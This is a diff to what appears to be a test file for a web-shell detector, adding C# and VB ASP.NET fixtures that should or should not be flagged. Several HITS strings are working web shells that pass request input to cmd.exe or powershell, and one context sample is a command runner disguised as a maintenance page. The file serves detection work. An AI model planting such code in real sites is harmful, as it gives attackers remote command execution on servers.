@@ -13,6 +13,21 @@ const HITS: readonly (readonly [name: string, fileName: string, text: string])[]
     '<form method="post"><textarea name="t"></textarea><input name="n"></form>\n<%\nt = Request("t")\nn = Request("n")\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath(n), 8, True)\ns.WriteLine t\ns.Close\n%>\n',
   ],
   [
+    'a program started by what an initializer says, of the request of a handler',
+    'page.ashx',
+    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\nusing System.Diagnostics;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    var s = new ProcessStartInfo { FileName = "powershell", Arguments = "-c " + c.Request.QueryString["q"], UseShellExecute = false };\n    using (var p = Process.Start(s)) { p.WaitForExit(); }\n  }\n  public bool IsReusable { get { return false; } }\n}\n',
+  ],
+  [
+    'the shell of Visual Basic, and a variable with its type',
+    'page.aspx',
+    '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n  Dim line As String = Request("x")\n  Shell("cmd.exe /c " & line, AppWinStyle.Hide, True)\nEnd Sub\n</script>\n',
+  ],
+  [
+    'what starts a program, by its full name',
+    'page.aspx',
+    '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n  Dim q As New System.Diagnostics.ProcessStartInfo("cmd", "/c " & Request.Form("x"))\n  System.Diagnostics.Process.Start(q)\nEnd Sub\n</script>\n',
+  ],
+  [
     'a function of the page runs what it is handed',
     'page.asp',
     '<!-- maintenance page -->\n<%\nFunction runIt(line)\n  Dim sh, p\n  Set sh = CreateObject("WScript.Shell")\n  Set p = sh.exec(line)\n  runIt = p.StdOut.ReadAll\nEnd Function\n%>\n<html><body><form method=get><input name="q"><input type=submit></form>\n<pre><%\nwhat = request("q")\nResponse.Write(runIt("cmd /c " & what))\n%></pre></body></html>\n',
@@ -185,6 +200,11 @@ const HITS: readonly (readonly [name: string, fileName: string, text: string])[]
   ],
 ]
 const MISSES: readonly (readonly [name: string, fileName: string, text: string])[] = [
+  [
+    'a program of its own, and a download named by the request',
+    'page.aspx',
+    '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var i = new ProcessStartInfo { FileName = "C:\\\\tools\\\\report.exe", Arguments = "--daily" };\n  Process.Start(i);\n  Label1.Text = Request["n"];\n  var d = new ContentDisposition { FileName = Request["f"] };\n}\n</script>\n',
+  ],
   [
     'a chat',
     'page.jsp',
